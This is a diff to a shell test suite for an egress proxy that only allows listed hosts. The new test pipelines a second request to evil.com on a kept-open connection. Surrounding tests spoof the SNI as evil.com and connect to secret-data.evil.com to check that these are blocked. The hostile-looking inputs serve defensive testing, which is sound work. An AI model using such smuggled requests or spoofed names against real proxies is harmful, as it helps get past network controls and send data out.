@@ -124,6 +124,10 @@ out=$(via_proxy http://github.com/zen)
 check_eq "plain HTTP in absolute form is forwarded" "$TB_ZEN" "$out"
 out=$(via_proxy -o /dev/null -w '%{http_code}' http://example.com/)
 check_eq "plain HTTP to an unlisted host gets 403" 403 "$out"
+out=$(printf 'GET http://github.com/zen HTTP/1.1\r\nHost: github.com\r\n\r\nGET http://github.com/echo HTTP/1.1\r\nHost: evil.com\r\n\r\n' |
+	tb_exec_host socat -t 3 - "TCP:127.0.0.1:$port")
+check_contains "a forwarded request is answered" "$out" "$TB_ZEN"
+check_lacks "a second request pipelined on the connection goes nowhere" "$out" "evil.com"
 
 out=$(tb_exec_host openssl s_client -proxy "127.0.0.1:$port" -connect github.com:443 \
 	-servername evil.com -CAfile "$ca" </dev/null 2>&1 | head -40)
@@ -220,8 +224,8 @@ ok = any(r['event'] == 'close' and r['host'] == 'github.com' and r['bytes_down']
 assert ok"
 ledger_has event=connect host=example.com decision=deny reason=host_not_allowed
 check_eq "a refusal has its deny record" 0 $?
-ledger_has event=connect host=github.com mode=http decision=allow
-check_eq "plain HTTP is recorded in http mode" 0 $?
+ledger_has event=connect host=github.com mode=forward decision=allow
+check_eq "plain HTTP through the proxy is recorded in forward mode" 0 $?
 
 mark=$(tb_dns_log_lines)
 raw_connect secret-data.evil.com:443 >/dev/null
